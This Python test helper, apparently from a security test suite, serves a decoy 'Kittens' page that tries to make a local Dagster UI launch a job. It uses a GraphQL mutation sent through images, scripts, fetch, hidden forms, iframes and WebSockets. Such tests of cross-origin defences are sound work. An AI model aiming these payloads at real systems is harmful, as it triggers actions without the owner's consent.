"""A web page that gives orders to the Dagster UI of the machine on which it is opened."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

ATTACKS = ("image", "fetch_get", "fetch_post", "form", "frame", "websocket", "report", "script")
"""What the page can try; its address says which: `/image`."""

LAUNCH = """mutation { launchRun(executionParams: {mode: "default", runConfigData: "CONFIG", selector: {
    repositoryLocationName: "stedi_assets", repositoryName: "__repository__", jobName: "JOB"}})
    { __typename ... on PythonError { message } } }"""

PAGE = """<!doctype html><title>Kittens</title><a id="link" href="{ui}/runs">more kittens</a>
<iframe name="hidden"></iframe><script>
const ui = {ui!r}, order = ui + '/graphql?query={launch}';
const add = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
const done = outcome => {{ document.title = outcome }};
const failed = () => done('error');
const element = (tag, more) => add(tag, {{...more, onload: () => done('loaded'), onerror: failed}});
const request = (url, more) => fetch(url, {{mode: 'no-cors', ...more}}).then(() => done('sent'), failed);
const attacks = {{
  image: () => element('img', {{src: order}}),
  script: () => element('script', {{src: order}}),
  frame: () => element('iframe', {{src: ui + '/overview'}}),
  fetch_get: () => request(order),
  fetch_post: () => request(order, {{method: 'POST', body: 'text'}}),
  report: () => request(ui + '/report_asset_materialization/customer_trusted', {{method: 'POST'}}),
  form: () => {{
    document.getElementsByName('hidden')[0].onload = () => done('loaded');
    add('form', {{method: 'post', action: order, target: 'hidden', enctype: 'multipart/form-data'}}).submit();
  }},
  websocket: () => {{
    const socket = new WebSocket(ui.replace('http', 'ws') + '/graphql', 'graphql-ws');
    socket.onopen = () => socket.send(JSON.stringify({{type: 'connection_init'}}));
    socket.onmessage = event => done('answered');
    socket.onerror = failed;
  }},
}};
(attacks[location.pathname.slice(1)] || (() => done('ready')))();
</script>"""


def launch(job: str, config: str = "{}") -> str:
    """The mutation that starts a run of a job with some config, as YAML."""
    return " ".join(LAUNCH.replace("JOB", job).replace("CONFIG", config).split())


@contextmanager
def hostile_site(ui: str) -> Iterator[int]:
    """Serves the page on a port of loopback; in a browser, its origin is what the browser calls that address.

    Args:
        ui: The URL of the UI that the page attacks.
    """
    page = PAGE.format(ui=ui, launch=quote(launch("maintain"))).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()
